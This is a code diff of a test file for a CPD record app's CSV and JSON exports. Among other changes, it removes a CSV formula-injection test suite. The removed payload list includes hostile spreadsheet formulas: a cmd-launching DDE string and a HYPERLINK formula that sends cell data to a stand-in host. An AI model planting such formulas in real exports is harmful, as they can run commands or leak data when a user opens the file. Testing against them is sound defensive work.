@@ -2,61 +2,20 @@ import { existsSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { parse } from 'csv-parse/sync'
 import { expect, test } from 'vitest'
-import { z } from 'zod'
-import { readCell, safeCell } from '#server/cpd/exports/csv.server.ts'
+import { schemaText } from '#server/cpd/exports/exporting.server.ts'
 import { cpdExport } from '#server/cpd/exports/json.server.ts'
-import { complete, done, openRecord, saveOf, theModule, theRoom } from './cpd-record.ts'
-
-const starts = ['=', '+', '-', '@', '\t', '\r', "'=", "''@", '＝', '\n=']
-const ends = [
-  'cmd|"/c calc"!A1',
-  'HYPERLINK("http://x.test?"&A1,"here")',
-  '1+1',
-  'SUM(A1:A9)',
-  'plain words',
-  '“quoted”, and "quoted", and a comma',
-  'two\nlines',
-  'ŵ ŷ ’ 😀',
-  ';DDE("x")',
-  '',
-]
-const payloads = starts.flatMap((start) => ends.map((end) => `${start}${end}`))
-const harmless = ends.filter((end) => end !== '')
+import { complete, done, fileText, openRecord, saveOf, theModule, theRoom } from './cpd-record.ts'
 
 function readCsv(csv: string): Record<string, string>[] {
   return parse(csv, { bom: true, columns: true })
 }
-
-test('T18: no cell of the export begins a formula, and each reads back as it was written', () => {
-  expect(payloads.length + harmless.length).toBeGreaterThan(100)
-  for (const text of [...payloads, ...harmless]) {
-    expect(safeCell(text)).not.toMatch(/^[=+\-@\t\r]/)
-    expect(readCell(safeCell(text))).toBe(text)
-  }
-})
-
-test('T18: hostile text in each answer comes back from another CSV reader unchanged', async () => {
-  const { cpd, people } = await openRecord()
-  const { ben } = people
-  const texts = [...payloads, ...harmless].map((text) => text.trim()).filter((text) => text !== '')
-  const { id } = cpd.blankPage(ben).entry
-  for (const [index, text] of texts.entries()) {
-    const answers = { description: text, learnt: text, impact: text, peerLearning: text }
-    done(await cpd.create(ben, id, saveOf({ ...complete('it'), ...answers }, index)))
-    const csv = done(await cpd.exportCsv(ben, { kind: 'entry', entry: id }))
-    const [row] = readCsv(csv)
-    const cells = Object.values(row ?? {})
-    expect(cells.filter((cell) => readCell(cell) === text)).toHaveLength(4)
-    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
-  }
-})
 
 test('the CSV is RFC 4180 with a byte order mark and CRLF, in the form’s order', async () => {
   const { cpd, people, attest } = await openRecord()
   const { ben } = people
   await attest(ben, theModule)
   await attest(ben, theRoom)
-  const csv = done(await cpd.exportCsv(ben, { kind: 'everything' }))
+  const csv = await fileText(cpd, ben, 'csv', { kind: 'everything' })
   expect(csv.startsWith('\uFEFF"Title"')).toBe(true)
   expect(csv.endsWith('\r\n')).toBe(true)
   expect(csv.split('\r\n')).toHaveLength(4)
@@ -80,7 +39,7 @@ test('the JSON reads back without loss', async () => {
   const room = await attest(ben, theRoom)
   const learnt = 'Line one\nLine two with ŵ, “quotes” and \\ and </script>'
   done(await cpd.save(ben, room, saveOf({ ...complete('it'), learnt, 'date-month': '13' })))
-  const text = done(await cpd.exportJson(ben, { kind: 'everything' }))
+  const text = await fileText(cpd, ben, 'json', { kind: 'everything' })
   const read = cpdExport.parse(JSON.parse(text))
   expect(read.person).toEqual({ name: 'Ben Hartley', jobTitle: 'Social worker' })
   expect(read.entries).toMatchObject([
@@ -116,10 +75,10 @@ test('a year’s export holds that year only; one entry’s holds one', async ()
   const later = complete('next year', { 'date-day': '9', 'date-month': '1', 'date-year': '2027' })
   done(await cpd.create(ben, second, saveOf(later)))
   const ids = (csv: string) => readCsv(csv).map((row) => row['Id'])
-  expect(ids(done(await cpd.exportCsv(ben, { kind: 'year', year: 2026 })))).toEqual([first])
-  expect(ids(done(await cpd.exportCsv(ben, { kind: 'year', year: 2027 })))).toEqual([second])
-  expect(ids(done(await cpd.exportCsv(ben, { kind: 'entry', entry: second })))).toEqual([second])
-  expect(ids(done(await cpd.exportCsv(ben, { kind: 'everything' })))).toEqual([first, second])
+  expect(ids(await fileText(cpd, ben, 'csv', { kind: 'year', year: 2026 }))).toEqual([first])
+  expect(ids(await fileText(cpd, ben, 'csv', { kind: 'year', year: 2027 }))).toEqual([second])
+  expect(ids(await fileText(cpd, ben, 'csv', { kind: 'entry', entry: second }))).toEqual([second])
+  expect(ids(await fileText(cpd, ben, 'csv', { kind: 'everything' }))).toEqual([first, second])
 })
 
 test('everything of one person holds nothing of anybody else', async () => {
@@ -127,8 +86,8 @@ test('everything of one person holds nothing of anybody else', async () => {
   const { ben, amara } = people
   done(await cpd.create(ben, cpd.blankPage(ben).entry.id, saveOf(complete('CANARY'))))
   for (const text of [
-    done(await cpd.exportCsv(amara, { kind: 'everything' })),
-    done(await cpd.exportJson(amara, { kind: 'everything' })),
+    await fileText(cpd, amara, 'csv', { kind: 'everything' }),
+    await fileText(cpd, amara, 'json', { kind: 'everything' }),
   ]) {
     expect(text).not.toContain('CANARY')
   }
@@ -136,7 +95,6 @@ test('everything of one person holds nothing of anybody else', async () => {
 
 test('the published schema is the one that the export is read with', () => {
   const file = join(import.meta.dirname, '..', '..', '..', 'docs', 'cpd-export.schema.json')
-  const made = z.toJSONSchema(cpdExport, { io: 'input' })
   expect(existsSync(file)).toBe(true)
-  expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(made)
+  expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(JSON.parse(schemaText()))
 })
